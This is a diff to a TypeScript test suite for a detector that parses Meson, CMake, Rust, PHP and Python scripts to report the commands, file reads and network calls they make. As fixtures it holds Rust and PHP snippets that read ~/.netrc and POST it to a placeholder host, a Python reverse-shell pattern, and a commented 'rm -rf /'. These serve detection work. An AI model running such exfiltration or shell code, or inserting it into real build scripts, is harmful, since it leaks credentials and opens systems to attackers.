@@ -14,6 +14,11 @@ describe('scripts of other languages', () => {
     ['tools/a', '#!/usr/bin/env python3\n', true],
     ['tools/a', '#!/usr/bin/perl -w\n', true],
     ['CMakeLists.txt', '', true],
+    ['native/meson.build', '', true],
+    ['build.rs', '', true],
+    ['Gemfile', '', true],
+    ['a.php', '', true],
+    ['a.go', '', false],
     ['a.sh', '#!/bin/sh\n', false],
     ['a', '#!/usr/bin/env node\n', false],
     ['a.js', '', false],
@@ -45,8 +50,8 @@ function readable(code: string): string {
   return code.startsWith('#') ? code.replace(/^#.*\n/, '') : code;
 }
 
-function told(code: string): string[] {
-  const { uses } = readOtherLanguage('a.py', code);
+function told(code: string, path = 'a.py'): string[] {
+  const { uses } = readOtherLanguage(path, code);
   return uses.map(({ module, path, args }) => `${module}:${path} ${args[0]?.text ?? ''}`.trim());
 }
 
@@ -72,6 +77,33 @@ describe('what a script does by its words', () => {
       'child_process:execSync systemctl --user enable a.service',
     ]);
   });
+  it('starts what Meson, CMake, Rust and PHP are told', () => {
+    assert.deepEqual(told("run_command('sh', '-c', 'ls', check: false)"), ['child_process:execSync sh -c ls']);
+    assert.deepEqual(told("custom_target('a', output: 'b', command: ['node', 'x.js'])"), ['child_process:execSync node x.js']);
+    assert.deepEqual(told('add_custom_target(setup ALL COMMAND ${CMAKE_COMMAND} -E echo a)').length, 1);
+    assert.deepEqual(told('Command::new("git").args(["rev-parse", "HEAD"]).output();', 'build.rs'), [
+      'child_process:execSync git rev-parse HEAD',
+    ]);
+    assert.deepEqual(told("<?php shell_exec('ls -a');", 'a.php'), ['child_process:execSync ls -a']);
+    assert.deepEqual(told('COMMAND = "x"\nproject(a C)\nmessage("COMMAND done")'), []);
+  });
+  it('reads what Rust and PHP name and sends it', () => {
+    const rust = `let home = std::env::var("HOME").expect("none");
+let text = fs::read_to_string(format!("{home}/.netrc"));
+Command::new("curl").args(["-d", &text, "https://a.invalid/b"]).status();`;
+    const php = `$text = file_get_contents(getenv('HOME') . '/.netrc');
+$c = curl_init('https://a.invalid/b'); curl_setopt($c, CURLOPT_POSTFIELDS, $text); curl_exec($c);`;
+    for (const [path, code] of [
+      ['build.rs', rust],
+      ['a.php', php],
+    ] as const) {
+      const { uses } = readOtherLanguage(path, code);
+      assert.equal(uses.find(use => use.path === 'readFileSync')?.args[0]?.text, '<home>/.netrc', path);
+      assert.ok((uses.find(use => use.path === 'fetch')?.args[1]?.members?.get('body')?.from.length ?? 0) > 0, path);
+    }
+  });
+  it('keeps what stands behind an attribute', () =>
+    assert.deepEqual(told('#[inline] fn main() { Command::new("ls"); }', 'build.rs'), ['child_process:execSync ls']));
   it('gives a shell to a connection', () => {
     assert.deepEqual(told('s = socket.create_connection(a)\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)'), [
       'net:connect',
@@ -94,7 +126,33 @@ describe('what a script does by its words', () => {
   it('does nothing', () => assert.deepEqual(told('"""Reads ~/.ssh/id_rsa"""\n# os.system("rm -rf /")\nprint(1 + 1)'), []));
   it('takes its parts from beside it', () =>
     assert.deepEqual(
-      readOtherLanguage('a.py', 'from archive import Archive\nimport os.path').links.map(({ specifier }) => specifier),
-      ['./archive.py', './os/path.py'],
+      ['from archive import Archive\nimport os.path', 'from .core import (a,\n  b)\nimport c', 'from .. import d']
+        .map(code =>
+          readOtherLanguage('x/y/a.py', code)
+            .links.map(({ specifier }) => specifier)
+            .filter(one => one.endsWith('.py')),
+        )
+        .map(links => links.filter(one => !one.endsWith('__init__.py'))),
+      [
+        ['./archive.py', './archive/Archive.py', './../../archive.py', './../../archive/Archive.py', './os/path.py', './../../os/path.py'],
+        ['./core.py', './core/a.py', './core/b.py', './c.py', './../../c.py'],
+        ['./../d.py'],
+      ],
+    ));
+
+  it('takes folders and files of its own in', () =>
+    assert.deepEqual(
+      [
+        'add_subdirectory(tools)\ninclude(SimdProbe)',
+        "subdir('src')",
+        "require_once __DIR__ . '/lib/a.php';",
+        'mod helper;\ninclude!("table.rs");',
+      ].map(code => readOtherLanguage('a', code).links.map(({ specifier }) => specifier)),
+      [
+        ['./tools/CMakeLists.txt', './SimdProbe.cmake', './cmake/SimdProbe.cmake'],
+        ['./src/meson.build'],
+        ['./lib/a.php'],
+        ['./helper.rs', './helper/mod.rs', './table.rs'],
+      ],
     ));
 });
